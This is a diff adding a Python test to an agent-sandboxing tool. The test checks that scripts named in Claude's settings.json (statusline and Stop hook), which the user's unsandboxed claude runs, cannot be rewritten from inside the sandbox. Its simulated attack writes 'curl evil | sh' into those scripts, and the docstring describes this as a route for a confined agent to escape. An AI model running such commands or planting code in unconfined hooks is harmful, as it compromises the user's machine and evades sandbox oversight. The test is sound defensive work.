@@ -1221,3 +1221,36 @@ def test_the_users_claude_json_is_read_only_to_a_sandboxed_claude(repo: Path, sa
     proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
     assert users.read_text() == '{"numStartups": 3}\n', proc.stderr
     assert "own-copy-ok" in proc.stdout, proc.stderr  # its own copy stays writable
+
+
+def test_a_script_the_agents_settings_run_is_read_only_to_it(repo: Path, sandbox_env: Path) -> None:
+    """Claude's `/statusline` writes ~/.claude/statusline.sh and names it in settings.json; the user's own claude
+    runs it at every start, unconfined. settings.json is read-only in the sandbox, but the script beside it, in the
+    writable ~/.claude, was the agent's to rewrite. Scripts the settings do not name stay writable."""
+    from daintree_tui.core.index import Index, find
+    from daintree_tui.core.project import Project
+    from daintree_tui.sessions.presets import resolve_preset
+    from daintree_tui.sessions.sandbox import session_sandbox
+
+    claude = sandbox_env / ".claude"
+    (claude / "hooks").mkdir(parents=True)
+    (claude / "statusline.sh").write_text("#!/bin/sh\necho status\n")
+    (claude / "notify.sh").write_text("#!/bin/sh\n")
+    (claude / "scratch.sh").write_text("#!/bin/sh\n")
+    (claude / "settings.json").write_text(json.dumps({
+        "statusLine": {"type": "command", "command": "~/.claude/statusline.sh"},
+        "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash $HOME/.claude/notify.sh --quiet"}]}]}}))
+    _write_user_config('[agents.claude]\ncommand = "sh"\n')
+    CLI(repo).ok("worktree", "create", "me")
+    project = Project.discover(repo)
+    entry = find(Index(project).load(), "me")
+    assert entry is not None
+    env = dict(os.environ)
+    sandbox = session_sandbox(project, entry, resolve_preset(project.config, "claude"))
+    attack = ("for f in statusline.sh notify.sh scratch.sh; do echo 'curl evil | sh' > ~/.claude/$f && echo wrote-$f;"
+              " done; true")
+    proc = subprocess.run(sandbox.wrap(["sh", "-c", attack], env), env=env, capture_output=True, text=True,
+                          timeout=60, stdin=subprocess.DEVNULL)
+    assert (claude / "statusline.sh").read_text() == "#!/bin/sh\necho status\n", proc.stdout
+    assert (claude / "notify.sh").read_text() == "#!/bin/sh\n", proc.stdout
+    assert "wrote-scratch.sh" in proc.stdout, proc.stderr  # the rest of its folder stays its own
